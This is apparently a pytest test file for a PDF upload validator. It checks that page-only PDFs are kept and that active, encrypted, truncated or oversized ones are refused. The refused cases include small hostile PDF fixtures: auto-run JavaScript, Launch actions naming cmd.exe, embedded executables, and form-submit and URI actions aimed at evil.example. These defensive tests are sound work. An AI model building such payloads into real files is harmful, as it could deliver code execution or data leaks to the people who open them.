"""PDFs are kept as they came where they show pages and do nothing else."""

import io
import time

import pytest
import typst
from pypdf import PdfReader, PdfWriter

from api.files.reading import read
from domain.files import FileFault, FileRefused, MediaType
from tests.pictures import drawn, encoded, pdf, pdf_of_streams

SCRIPT = b"<</S/JavaScript/JS(app.alert(1))>>"


def fault(content: bytes) -> FileFault:
    with pytest.raises(FileRefused) as refused:
        read(content)
    return refused.value.fault


def written(writer: PdfWriter) -> bytes:
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


@pytest.mark.parametrize(
    "content",
    [
        pdf(),
        pdf(catalog=b"/OpenAction[3 0 R/Fit]"),
        pdf(b"<</S/GoTo/D[3 0 R/Fit]>>", catalog=b"/OpenAction 4 0 R"),
        pdf(b"<</Type/Annot/Subtype/Link/A<</S/URI/URI(http://heat.example)>>>>"),
        encoded(drawn(), "PDF"),
        pdf_of_streams(b"[3 0 R/Fit]"),
    ],
    ids=["plain", "opens at a page", "goes to a page", "with a link", "a scan", "in streams"],
)
def test_pages_are_kept_as_they_came(content: bytes) -> None:
    made = read(content)
    assert (made.media_type, made.content, made.thumbnail) == (MediaType.PDF, content, None)


@pytest.mark.parametrize(
    "content",
    [
        pdf(SCRIPT, catalog=b"/OpenAction 4 0 R"),
        pdf(b"<</S/#4aava#53cript/JS(1)>>", catalog=b"/OpenAction 4 0 R"),
        pdf(catalog=b"/Names<</JavaScript<</Names[(a)<</S/JavaScript/JS(1)>>]>>>>"),
        pdf(b"<</S/Launch/F(cmd.exe)>>", catalog=b"/OpenAction 4 0 R"),
        pdf(b"<</Type/Filespec/F(a.exe)/EF<</F 5 0 R>>>>", b"<</Length 1>>\nstream\nx\nendstream"),
        pdf(b"<</S/SubmitForm/F(http://evil.example)>>", catalog=b"/OpenAction 4 0 R"),
        pdf(b"<</S/URI/URI(http://evil.example)>>", catalog=b"/OpenAction 4 0 R"),
        pdf(b"<</S/GoTo/D[3 0 R/Fit]/Next<</S/URI/URI(http://evil.example)>>>>", catalog=b"/OpenAction 4 0 R"),
        pdf(catalog=b"/AA<</WC<</S/URI/URI(http://evil.example)>>>>"),
        pdf(catalog=b"/AcroForm<</XFA[(a)(b)]>>"),
        pdf(b"<</S/GoToE/F(a.pdf)>>"),
        pdf(b"<</Subtype/RichMedia>>"),
        pdf(b"<</S/Rendition/JS(1)>>"),
        pdf_of_streams(SCRIPT),
        pdf_of_streams(SCRIPT, predictor=True),
        pdf_of_streams(b"<</S/Launch/F(cmd)>>"),
        pdf().replace(b"%PDF-1.7\n", b"%PDF-1.7\n9 0 obj\n" + SCRIPT + b"\nendobj\n"),  # no table leads there
    ],
)  # fmt: skip
def test_what_does_more_than_show_pages_is_refused(content: bytes) -> None:
    assert fault(content) in (FileFault.ACTIVE, FileFault.BROKEN)
    assert content.startswith(b"%PDF-")


@pytest.mark.parametrize("content", [pdf(SCRIPT), pdf_of_streams(SCRIPT), pdf_of_streams(SCRIPT, predictor=True)])
def test_the_reason_is_named(content: bytes) -> None:
    assert fault(content) is FileFault.ACTIVE


def test_files_inside_are_refused() -> None:
    writer = PdfWriter(io.BytesIO(pdf()))
    writer.add_attachment("a.exe", b"MZ")
    assert fault(written(writer)) is FileFault.ACTIVE


@pytest.mark.parametrize("password", ["", "secret"])
def test_what_is_encrypted_is_refused_whether_it_opens_or_not(password: str) -> None:
    writer = PdfWriter(io.BytesIO(pdf()))
    writer.encrypt(password, "owner", algorithm="RC4-128")
    assert fault(written(writer)) is FileFault.ENCRYPTED


def test_a_pdf_that_is_cut_off_or_goes_on_is_refused() -> None:
    whole = pdf()
    assert {fault(whole[:length]) for length in range(10, len(whole) - 8, 7)} == {FileFault.BROKEN}
    assert fault(whole + b"PK\3\4 and more") is FileFault.BROKEN
    assert read(whole + b"\r\n").content == whole + b"\r\n"


def test_a_stream_that_would_fill_the_memory_is_refused() -> None:
    begun = time.process_time()  # what others take of a core is none of it
    assert fault(pdf_of_streams(b"[3 0 R/Fit]", pad=300_000_000)) is FileFault.BROKEN
    assert time.process_time() - begun < 15


def test_papers_of_others_are_taken() -> None:
    writer = PdfWriter()
    for _ in range(3):
        writer.add_blank_page(200, 200)
    content = written(writer)
    assert len(PdfReader(io.BytesIO(content)).pages) == 3
    assert read(content).content == content
    printed = typst.compile(b"Replaced the valve.")
    assert isinstance(printed, bytes)
    assert read(printed).content == printed
